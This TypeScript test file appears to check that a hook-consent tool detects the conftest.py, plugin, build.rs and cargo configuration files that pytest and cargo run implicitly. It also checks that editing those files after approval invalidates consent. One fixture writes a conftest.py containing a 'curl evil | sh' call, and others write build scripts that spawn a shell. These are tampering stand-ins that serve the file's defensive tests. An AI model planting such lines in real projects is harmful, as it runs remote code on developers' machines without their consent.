/**
 * The project files test runners and build tools run without the command naming them
 * (runner-files.ts): pytest's `conftest.py` files, configuration and `-p` plugins; cargo's
 * `build.rs` scripts and configuration. Editing one after approval changes the consent fingerprint.
 */
import fs from "node:fs";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { consentFingerprint } from "../src/fingerprint.js";
import { hookConsent } from "../src/hook-consent.js";
import { referencedScripts } from "../src/script-references.js";
import { tempDir } from "./support.js";

function repo(files: Record<string, string>): { dir: string; found: (command: string) => string[] } {
  const dir = tempDir();
  for (const [rel, text] of Object.entries(files)) {
    fs.mkdirSync(path.dirname(path.join(dir, rel)), { recursive: true });
    fs.writeFileSync(path.join(dir, rel), text);
  }
  return { dir, found: (command) => referencedScripts(command, dir).map((f) => path.relative(dir, f)) };
}

const PYTHON_PROJECT = {
  "pytest.ini": "[pytest]\naddopts = -q -p myplugin\n",
  "pyproject.toml": "[project]\nname = 'x'\n",
  "conftest.py": "",
  "tests/conftest.py": "",
  "tests/unit/conftest.py": "",
  "tests/test_a.py": "",
  "myplugin.py": "",
  "node_modules/pkg/conftest.py": "",
};
const PYTEST_RUNS = [
  "pytest.ini",
  "pyproject.toml",
  "conftest.py",
  "tests/conftest.py",
  "tests/unit/conftest.py",
  "myplugin.py",
];

describe("pytest", () => {
  it.each(["pytest", "py.test -x", "python3 -m pytest", "uv run pytest -q"])(
    "%s runs every conftest.py, its configuration and the plugins it names",
    (command) => {
      expect(repo(PYTHON_PROJECT).found(command)).toEqual(PYTEST_RUNS);
    },
  );

  it("a -p plugin on the command line counts too", () => {
    expect(repo({ "cov_plugin.py": "" }).found("pytest -p cov_plugin")).toEqual(["cov_plugin.py"]);
  });

  it("an edit of a nested conftest.py after approval changes the consent fingerprint", () => {
    const { dir } = repo(PYTHON_PROJECT);
    const spec = { type: "command", command: "pytest -q" } as const;
    const before = consentFingerprint("entry", spec, dir);
    fs.writeFileSync(path.join(dir, "tests/unit/conftest.py"), "import os; os.system('curl evil | sh')\n");
    expect(consentFingerprint("entry", spec, dir)).not.toBe(before);
  });

  it("a user's own pytest hook is held in a project with conftest.py files", () => {
    const { dir } = repo(PYTHON_PROJECT);
    const hook = {
      source: "user" as const,
      fingerprint: "f",
      spec: { type: "command" as const, command: "pytest" },
    };
    expect(hookConsent(hook, dir).needed).toBe(true);
  });
});

const RUST_PROJECT = {
  "Cargo.toml": "[workspace]\nmembers = ['crates/a']\n",
  "Cargo.lock": "",
  "build.rs": "fn main() {}\n",
  "crates/a/Cargo.toml": "[package]\nname = 'a'\n",
  "crates/a/build.rs": "fn main() {}\n",
  "crates/a/src/lib.rs": "",
  ".cargo/config.toml": "[target.x86_64-unknown-linux-gnu]\nrunner = './run.sh'\n",
  "rust-toolchain.toml": "[toolchain]\nchannel = 'stable'\n",
};

describe("cargo", () => {
  it.each(["cargo test", "cargo build --release", "cargo run"])(
    "%s runs every build.rs and reads every Cargo.toml, .cargo/config.toml and rust-toolchain.toml",
    (command) => {
      expect(repo(RUST_PROJECT).found(command)).toEqual([
        "Cargo.toml",
        "rust-toolchain.toml",
        ".cargo/config.toml",
        "build.rs",
        "crates/a/build.rs",
        "crates/a/Cargo.toml",
      ]);
    },
  );

  it("run in a member folder, the configuration of the folders above counts", () => {
    expect(repo(RUST_PROJECT).found("cd crates/a && cargo build")).toEqual([
      "Cargo.toml",
      "rust-toolchain.toml",
      ".cargo/config.toml",
      "build.rs",
      "crates/a/build.rs",
      "crates/a/Cargo.toml",
    ]);
  });

  it("the project programs its configuration names count: a runner script, a linker wrapper", () => {
    const found = repo({
      "Cargo.toml": "[package]\nname = 'a'\n",
      ".cargo/config.toml":
        "[target.x86_64-unknown-linux-gnu]\nrunner = ['./tools/run.sh', '--fast']\nlinker = \"tools/ld\"\n[build]\nrustc-wrapper = \"sccache\"\n",
      "tools/run.sh": '#!/bin/sh\nexec "$@"\n',
      "tools/ld": "#!/bin/sh\n",
    }).found("cargo test");
    expect(found).toEqual(["Cargo.toml", ".cargo/config.toml", "tools/run.sh", "tools/ld"]);
  });

  it("a member's manifest counts, with the build script its `build` key names", () => {
    const found = repo({
      "Cargo.toml": "[workspace]\nmembers = ['crates/a']\n",
      "crates/a/Cargo.toml": "[package]\nname = 'a'\nbuild = \"tools/gen.rs\"\n",
      "crates/a/tools/gen.rs": "fn main() {}\n",
      "crates/a/src/lib.rs": "",
    }).found("cargo build");
    expect(found).toEqual(["Cargo.toml", "crates/a/Cargo.toml", "crates/a/tools/gen.rs"]);
  });

  it("an edit of a build script named by `build` after approval changes the consent fingerprint", () => {
    const { dir } = repo({
      "Cargo.toml": "[package]\nname = 'a'\nbuild = 'gen/setup.rs'\n",
      "gen/setup.rs": "fn main() {}\n",
    });
    const spec = { type: "command", command: "cargo check" } as const;
    const before = consentFingerprint("entry", spec, dir);
    fs.writeFileSync(path.join(dir, "gen/setup.rs"), 'fn main() { std::process::Command::new("sh"); }\n');
    expect(consentFingerprint("entry", spec, dir)).not.toBe(before);
  });

  it("an edit of a build.rs after approval changes the consent fingerprint", () => {
    const { dir } = repo(RUST_PROJECT);
    const spec = { type: "command", command: "cargo test" } as const;
    const before = consentFingerprint("entry", spec, dir);
    fs.writeFileSync(
      path.join(dir, "crates/a/build.rs"),
      'fn main() { std::process::Command::new("sh"); }\n',
    );
    expect(consentFingerprint("entry", spec, dir)).not.toBe(before);
  });
});
